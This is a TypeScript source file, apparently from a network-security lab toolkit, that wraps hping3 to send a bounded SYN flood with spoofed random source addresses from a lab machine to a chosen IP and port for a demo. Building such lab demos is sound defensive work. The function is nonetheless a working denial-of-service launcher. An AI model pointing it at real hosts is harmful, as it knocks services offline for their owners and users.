import { NetGuardError } from '@netguard/core';
import type { Member } from '../lab/member.ts';
import { requireProgram } from '../lab/requirements.ts';

export interface FloodOptions {
  /** SYNs a second; hping3 sends a little fewer. 2,000 by default. */
  readonly rate?: number;
  /** 8 by default. */
  readonly seconds?: number;
  /** Each SYN from another random source (default), or all from the attacker's own address. */
  readonly spoofed?: boolean;
}

export interface FloodResult {
  /** SYNs that hping3 says it sent. 6–8 % of random sources are no valid ones and die at the router. */
  readonly syns: number;
  readonly startedMs: number;
}

/** Ends a flood that hangs: beyond the time it should take. */
const graceMs = 5_000;

/** The program that sends floods. @throws NG_ERR_LAB_TOOL naming its package. */
export function requireFloodTool(): string {
  return requireProgram('hping3', 'hping3', 'preparing a SYN flood for the demo');
}

/**
 * A real SYN flood from one member of a lab to an address, bounded in count and time. Resolves when it is over.
 * @throws NG_ERR_DEMO_ATTACK when hping3 could not send.
 */
export async function synFlood(
  attacker: Member,
  targetIp: string,
  port: number,
  { rate = 2_000, seconds = 8, spoofed = true }: FloodOptions = {},
): Promise<FloodResult> {
  const count = Math.max(1, Math.round(rate * seconds));
  const source = spoofed ? ['--rand-source'] : [];
  const pace = ['-i', `u${Math.max(1, Math.round(1_000_000 / rate))}`, '-c', String(count)];
  const argv = ['-I', 'eth0', '-q', '-n', '-S', '-p', String(port), ...pace, ...source, targetIp];
  const startedMs = Date.now();
  // The timer counts real time: on a busy machine fewer SYNs are sent, not the flood longer. INT makes hping3 say how many.
  const limit = ['--signal=INT', `--kill-after=${graceMs / 1_000}`, String(seconds + 1)];
  const { stdout, stderr } = await attacker.run(['timeout', ...limit, requireFloodTool(), ...argv]);
  const syns = Number(/(\d+) packets (?:tramitted|transmitted)/.exec(stdout + stderr)?.[1] ?? 0);
  if (syns > 0) return { syns, startedMs };
  throw new NetGuardError('NG_ERR_DEMO_ATTACK', `sending a SYN flood to ${targetIp}:${port}`, {
    cause: stderr.trim().split('\n').at(-1) || 'hping3 sent nothing',
    hint: 'hping3 needs raw sockets: CAP_NET_RAW must be allowed.',
  });
}
